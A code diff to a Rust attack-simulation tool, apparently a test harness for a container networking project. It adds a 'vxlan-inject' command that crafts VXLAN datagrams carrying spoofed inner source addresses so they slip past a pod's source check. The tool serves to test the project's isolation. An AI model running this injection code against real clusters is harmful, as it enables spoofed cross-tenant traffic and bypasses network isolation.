@@ -23,6 +23,9 @@
 //!                                       offering two MSS options
 //!   dnattack syn-flood --to IP:PORT --seconds S
 //!                                       SYNs from every port in turn, never completed
+//!   dnattack vxlan-inject --to NODE --vni N --inner-src IP --inner-dst IP [--count K]
+//!                                       VXLAN datagrams to another node's tunnel end,
+//!                                       wrapping frames from an address not this pod's
 
 #![deny(unsafe_code)]
 
@@ -117,6 +120,26 @@ enum Cmd {
         /// How long to flood.
         #[arg(long, default_value_t = 3.0)]
         seconds: f64,
+    },
+    /// VXLAN datagrams from this pod to a node's tunnel end (UDP port 4789), each wrapping a
+    /// UDP frame from `--inner-src` (another pod's address, say) to `--inner-dst`: what a pod
+    /// would send to slip frames past its own daemon's source check.
+    VxlanInject {
+        /// The node (its link's address).
+        #[arg(long)]
+        to: std::net::Ipv4Addr,
+        /// The network identifier to claim.
+        #[arg(long)]
+        vni: u32,
+        /// The inner frame's source.
+        #[arg(long)]
+        inner_src: std::net::Ipv4Addr,
+        /// The inner frame's destination.
+        #[arg(long)]
+        inner_dst: std::net::Ipv4Addr,
+        /// Datagrams to send.
+        #[arg(long, default_value_t = 100)]
+        count: u32,
     },
     /// Fork children that wait, until `--max` or the first refusal; print how many (a first
     /// line, "holding": true), hold them `--hold` seconds, end them and print it again.
@@ -317,6 +340,13 @@ fn main_inner(cli: Cli) -> Result<serde_json::Value> {
             to,
             seconds,
         )?,
+        Cmd::VxlanInject {
+            to,
+            vni,
+            inner_src,
+            inner_dst,
+            count,
+        } => vxlan_inject(&name, to, vni, inner_src, inner_dst, count)?,
         Cmd::Inspect => {
             let conn = fdpass::connect_abstract(&name)
                 .with_context(|| format!("connecting to @{name}"))?;
@@ -334,6 +364,59 @@ fn main_inner(cli: Cli) -> Result<serde_json::Value> {
             json!({"pipe": pipe, "channels": channels})
         }
     })
+}
+
+/// `dnattack vxlan-inject`: `count` VXLAN datagrams from this pod's own address (so its daemon's
+/// source check passes) to node `to`'s port 4789, each wrapping a UDP frame from `inner_src` to
+/// `inner_dst` under identifier `vni`.
+fn vxlan_inject(
+    name: &str,
+    to: std::net::Ipv4Addr,
+    vni: u32,
+    inner_src: std::net::Ipv4Addr,
+    inner_dst: std::net::Ipv4Addr,
+    count: u32,
+) -> Result<serde_json::Value> {
+    use docknet_lib::frame::write_ipv4_headers;
+    const ETH: usize = 14;
+    let mut ep = docknet_lib::Endpoint::connect(name, docknet_pipe::IdlePolicy::Spin)?;
+    // the inner frame: Ethernet, IPv4, UDP to port 9 and 16 bytes
+    let inner_len = ETH + 20 + 8 + 16;
+    let mut inner = vec![0u8; inner_len];
+    write_ipv4_headers(
+        &mut inner,
+        [2, 0, 0, 0, 0, 1],
+        [2, 0, 0, 0, 0, 2],
+        inner_src,
+        inner_dst,
+        17,
+        inner_len,
+    );
+    inner[ETH + 20..ETH + 22].copy_from_slice(&4000u16.to_be_bytes());
+    inner[ETH + 22..ETH + 24].copy_from_slice(&9u16.to_be_bytes());
+    inner[ETH + 24..ETH + 26].copy_from_slice(&24u16.to_be_bytes());
+    // the outer datagram: this pod to the node, UDP to 4789, the VXLAN header
+    let total = ETH + 20 + 8 + 8 + inner_len;
+    let mut f = vec![0u8; total];
+    write_ipv4_headers(&mut f, ep.mac(), [2, 0, 0, 0, 0, 3], ep.ip(), to, 17, total);
+    let udp = &mut f[ETH + 20..ETH + 28];
+    udp[0..2].copy_from_slice(&50000u16.to_be_bytes());
+    udp[2..4].copy_from_slice(&4789u16.to_be_bytes());
+    udp[4..6].copy_from_slice(&((total - ETH - 20) as u16).to_be_bytes());
+    f[ETH + 28] = 0x08;
+    f[ETH + 32..ETH + 35].copy_from_slice(&vni.to_be_bytes()[1..4]);
+    f[ETH + 36..].copy_from_slice(&inner);
+    let mut sent = 0u64;
+    for _ in 0..count {
+        while ep.send(&f).is_err() {
+            ep.flush();
+            ep.idle(Duration::from_micros(50));
+        }
+        sent += 1;
+        ep.flush();
+        std::thread::sleep(Duration::from_millis(1));
+    }
+    Ok(json!({"attack": "vxlan-inject", "sent": sent}))
 }
 
 /// Forks up to `max` children that only wait, stopping at the first refusal; prints how many
